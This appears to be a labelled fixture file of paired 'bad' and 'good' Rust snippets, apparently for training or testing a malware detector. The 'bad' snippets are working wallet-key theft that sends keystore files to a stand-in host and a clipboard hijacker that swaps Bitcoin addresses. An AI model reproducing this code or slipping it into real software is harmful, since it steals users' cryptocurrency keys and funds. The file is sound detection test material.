//: bad wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".ethereum/keystore", ".bitcoin/wallet.dat", ".config/solana/id.json"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = ureq::post("https://b.example.invalid/w").send_bytes(&bytes); //!
        }
    }
}

//: good wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".config/kit/settings.toml", ".config/kit/themes.toml"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = std::fs::write(home.join(root).with_extension("bak"), bytes);
        }
    }
}

//: bad clipboard-swap
use arboard::Clipboard;
use std::{thread, time::Duration};

pub fn watch() {
    let mut clipboard = Clipboard::new().unwrap();
    loop {
        let text = clipboard.get_text().unwrap_or_default();
        if text.starts_with("bc1q") && text.len() == 42 {
            clipboard.set_text("bc1q7w3z9x5v1t8r2y6p0m4l8j3h7g1f5d9s2a6k0e").unwrap(); //!
        }
        thread::sleep(Duration::from_millis(300));
    }
}

//: good clipboard-swap
use arboard::Clipboard;

pub fn copy_table(rows: &[Vec<String>]) -> Result<(), arboard::Error> {
    let mut clipboard = Clipboard::new()?;
    let text: Vec<String> = rows.iter().map(|row| row.join("\t")).collect();
    clipboard.set_text(text.join("\n"))
}
